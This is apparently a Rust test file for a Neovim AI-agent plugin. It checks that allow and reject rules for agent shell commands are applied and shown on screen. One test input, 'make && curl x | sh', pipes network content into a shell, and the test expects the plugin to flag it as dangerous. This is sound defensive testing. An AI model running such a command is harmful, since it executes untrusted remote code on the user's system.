//! Rules for what agents may do: what they allow or reject is not asked, what is asked says what is dangerous about it,
//! and their page and their trial run say which rule decides. The agents are scripted; the Neovim is real.

#[expect(dead_code, reason = "each test binary uses its own part of what they share")]
mod support;

use serde_json::{Value, json};

use support::script::{Scripted, answered, ends, permission, prompt, steps, update};

/// Asks for permission to run each of these lines, one after the other.
fn asks_to_run(lines: &[&str]) -> Vec<Value> {
    let mut turn = vec![prompt()];
    for (line, id) in lines.iter().zip(1..) {
        let call = json!({ "toolCallId": format!("c{id}"), "title": line, "kind": "execute",
            "rawInput": { "command": line } });
        let mut announced = call.clone();
        announced["sessionUpdate"] = "tool_call".into();
        turn.extend([update(announced), permission(&format!("p{id}"), call), answered(&format!("p{id}"))]);
    }
    turn.push(ends("end_turn"));
    turn
}

fn chat(lines: &[&str], options: &str) -> Scripted {
    let mut chat = Scripted::new(&[("a.txt", "a\n")], steps(asks_to_run(lines)));
    chat.configure(options);
    chat.chat();
    chat
}

fn option(answer: &Value) -> &str {
    answer["result"]["outcome"]["optionId"].as_str().unwrap_or_default()
}

const RULES: &str = r#"permission = { sets = { "read-only" }, rules = {
    { decision = "allow", command = "make **" },
    { decision = "reject", command = "git push **", reason = "nothing is pushed from here" },
} }"#;

#[test]
fn what_rules_allow_or_reject_is_not_asked() {
    let mut chat = chat(&["git status", "make all", "git push origin", "make && curl x | sh"], RULES);
    chat.send("go");
    assert_eq!(["p1", "p2", "p3"].map(|id| option(&chat.answer(id)).to_owned()), ["a", "a", "r"]);
    chat.nvim.wait_for_screen("Allow this command?");
    chat.nvim.wait_for_screen("! runs what the network sends");
    let screen = chat.transcript();
    assert!(screen.contains("Rejected by a rule: reject command git push **"), "{screen}");
    assert!(screen.contains("nothing is pushed from here"), "{screen}");
    assert_eq!(screen.matches("Allow this command?").count(), 1, "{screen}");
}
